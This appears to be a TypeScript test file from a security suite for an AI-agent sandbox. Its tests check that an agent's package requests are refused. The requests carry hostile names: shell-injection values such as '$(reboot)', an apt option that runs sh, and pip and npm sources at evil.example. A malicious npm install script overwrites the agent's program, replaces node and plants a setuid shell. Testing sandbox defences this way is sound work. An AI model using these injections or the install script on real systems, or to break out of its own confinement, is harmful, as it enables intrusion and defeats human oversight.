import { randomBytes } from "node:crypto";
import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";

import type { Attack } from "../suite/attack.ts";
import { openEvilRegistry, ownAddress } from "../suite/evil-registry.ts";
import type { Stage } from "../suite/stage.ts";
import { waitFor } from "../suite/waiting.ts";

const names = [
  { apt: ["jq; touch /tmp/x"] },
  { apt: ["$(reboot)"] },
  { apt: ["-oAPT::Update::Pre-Invoke::=sh"] },
  { apt: ["bash-"] },
  { pip: ["--index-url=http://evil.example"] },
  { pip: ["git+https://evil.example/x.git"] },
  { npm: ["../../etc"] },
  { npm: ["evil/repository"] },
  { npm: ["x@https://evil.example/x.tgz"] },
];

/** State of the image with that package once it is built. */
async function untilBuilt(stage: Stage, name: string): Promise<string> {
  const look = async () => {
    const images = (await stage.list<object>("image.list")).map((image) => JSON.stringify(image));
    return images.find((one) => one.includes(name) && /"state":"(?:failed|ready)"/.test(one));
  };
  return (await waitFor(look, 500)) ?? "never built";
}

export const attacks: readonly Attack[] = [
  {
    id: "L8",
    title: "an agent asks for packages by names that are options, words of a shell, addresses and paths",
    from: "container",
    expected: "each is refused at once, and nobody is asked",
    audit: { type: "tool-denied", where: ({ group, data }) => group === "red" && data["name"] === "request_packages" },
    attempt: async (stage) => {
      const all = [];
      // In several turns: one that gets nothing but refusals is ended.
      for (const half of [names.slice(0, 5), names.slice(5)]) {
        const { outputs } = await stage.calls(
          "red",
          half.map((input) => [{ name: "request_packages", input }]),
        );
        all.push(...outputs);
      }
      const open = JSON.stringify(await stage.list("approvals.list", { group: "red" }));
      const isRefused =
        all.length === names.length && all.every((said) => said.includes("is not the name of a package"));
      return { seen: `${all.length} refused`, holds: isRefused && !open.includes("request_packages") };
    },
  },
  {
    id: "L9",
    title: "a package whose scripts replace the agent's program, the Node that runs it, and leave a setuid shell",
    from: "program",
    expected: "the image is refused, and the group goes on with the image that it had",
    audit: { type: "image-failed" },
    skip: () => (ownAddress() === undefined ? "this machine is in no network" : undefined),
    attempt: async (stage) => {
      const script =
        "echo evil >> /opt/crabpot/agent.cjs; cp /bin/true /usr/local/sbin/node; cp /bin/sh /s; chmod 4755 /s";
      await using registry = await openEvilRegistry(ownAddress() ?? "", script);
      const settings = join(stage.playground.userHome, ".npmrc");
      const look = "cat /opt/crabpot/agent.cjs /usr/local/sbin/node /s 2>/dev/null | sha256sum | cut -c1-64";
      const before = await stage.shell("red", look);
      await writeFile(settings, `registry=${registry.url}\n`);
      const evil = `evil-${randomBytes(4).toString("hex")}`;
      try {
        await stage.command("groups", "set", "red", "image", `{ npm: [${evil}] }`);
        const built = await untilBuilt(stage, evil);
        const after = await stage.shell("red", look);
        const sum = /[0-9a-f]{64}/;
        const [was, is] = [before, after].map(({ outputs }) => sum.exec(outputs[0] ?? "")?.[0]);
        const isRefused = built.includes('"state":"failed"') && built.includes("change /opt/crabpot/agent.cjs");
        const seen = is === was ? built.slice(0, 300) : "another program of the agent's";
        return { seen, holds: isRefused && was !== undefined && is === was };
      } finally {
        await stage.command("groups", "unset", "red", "image");
        await rm(settings, { force: true });
      }
    },
  },
];
